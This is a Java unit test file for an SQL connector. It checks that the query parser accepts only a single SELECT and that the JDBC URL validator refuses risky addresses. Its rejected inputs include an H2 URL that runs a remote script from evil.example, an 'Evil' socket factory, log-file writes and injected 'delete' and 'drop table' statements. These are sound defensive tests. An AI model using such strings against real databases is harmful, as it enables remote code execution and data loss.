package io.okrsync.connector;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SqlQueryTest {
  @Test
  void fills_in_the_time_and_leaves_out_its_part_when_all_is_read() {
    String text = "select * from t [where at >= @since or at = @since] ; ";

    assertThat(SqlQuery.of(text, false))
        .isEqualTo(new SqlQuery("select * from t where at >= ? or at = ?", 2));
    assertThat(SqlQuery.of(text, true)).isEqualTo(new SqlQuery("select * from t ", 0));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "select ';' as id, '@since [x @since]' as b, a[1] from \"t;?\" /* ; ? */ -- ; '",
        "WITH x as (select 1) select $$;$$ as id from x",
        "select $a$ ; ? $a$ as id",
        "select 'it''s; fine' as id"
      })
  void what_stands_in_texts_names_and_comments_means_nothing(String text) {
    assertThat(SqlQuery.of(text, true)).isEqualTo(new SqlQuery(text, 0));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "delete from t                      | one SELECT",
        "/* select */ drop table t          | one SELECT",
        "(select 1)                         | one SELECT",
        "select 1; delete from t            | one query",
        "select * from t where a = ?        | question mark",
        "select * from t where a = 'x       | does not end",
        "select /* from t                   | does not end",
        "select * from t where at >= @since | outside of brackets"
      })
  void refuses_what_is_not_one_query(String text, String why) {
    assertThatThrownBy(() -> SqlQuery.of(text, true))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining(why);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:postgresql://db/x",
        "jdbc:postgresql://db.example.org:5433/x?sslmode=verify-full&currentSchema=erp",
        "jdbc:h2:tcp://db:9092/x",
        "jdbc:h2:mem:x"
      })
  void knows_addresses_that_may_be_used(String url) {
    assertThat(SqlUrl.of(url)).isPresent();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
        "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3",
        "jdbc:postgresql://db/x?socketFactory=org.example.Evil",
        "jdbc:postgresql://db/x?sslmode=require&loggerFile=/tmp/x",
        "jdbc:postgresql://db/x?password=secret",
        "jdbc:postgresql://user@db/x",
        "jdbc:mysql://db/x",
        "jdbc:h2:nio:x",
        ""
      })
  void refuses_addresses_that_could_do_more_than_read(String url) {
    assertThat(SqlUrl.of(url)).isEmpty();
  }
}
